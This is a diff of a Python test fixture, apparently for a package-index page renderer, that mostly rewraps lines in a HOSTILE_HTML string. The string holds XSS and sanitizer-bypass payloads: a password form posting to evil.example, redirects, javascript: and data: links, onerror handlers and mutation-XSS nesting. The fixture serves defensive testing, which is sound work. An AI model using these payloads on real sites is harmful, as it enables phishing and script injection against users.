@@ -1,6 +1,7 @@
 """An index with everything that a page for people can show, and a hostile project beside it."""
 
 import json
+
 import httpx
 from packaging.version import Version
 
@@ -30,7 +31,7 @@ README = """# demo-contracts
 | timeout | 300 |
 
 ```python
-from demo_contracts import EvaluationStatus  # a line that is too long for a narrow screen and is scrolled there
+from demo_contracts import EvaluationStatus  # too long for a narrow screen, and scrolled there
 ```
 
 <details><summary>More</summary>
@@ -143,13 +144,18 @@ HOSTILE_HTML = """
 <form action="https://evil.example/"><input name=password><button>Log in</button></form>
 <style>body{display:none}</style><link rel=stylesheet href="https://evil.example/x.css">
 <base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">
-<object data="https://evil.example/x"></object><embed src="https://evil.example/x"><video src="https://evil.example/x" autoplay></video>
+<object data="https://evil.example/x"></object><embed src="https://evil.example/x">
+<video src="https://evil.example/x" autoplay></video>
 <a href="javascript:document.title='pwned'">plain</a> <a href=" java&#10;script:alert(1)">split</a>
-<a href="data:text/html,<script>alert(1)</script>">data</a> <a href="vbscript:x">vb</a> <a href="//evil.example/x">other host</a>
-<div style="position:fixed;inset:0;background:url(https://evil.example/x)" id="content" class="skip">over</div>
+<a href="data:text/html,<script>alert(1)</script>">data</a> <a href="vbscript:x">vb</a>
+<a href="//evil.example/x">other host</a>
+<div style="position:fixed;inset:0;background:url(https://evil.example/x)" id="content" class="skip">
+over</div>
 <math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
-<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><textarea></textarea><img src=x onerror=alert(1)>
-<details open ontoggle="document.title='pwned'"><summary>more</summary>inside</details><p onclick="alert(1)">end of html</p>
+<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
+<textarea></textarea><img src=x onerror=alert(1)>
+<details open ontoggle="document.title='pwned'"><summary>more</summary>inside</details>
+<p onclick="alert(1)">end of html</p>
 """
 HOSTILE_MARKDOWN = f"""# Hostile <script>alert(1)</script>
 
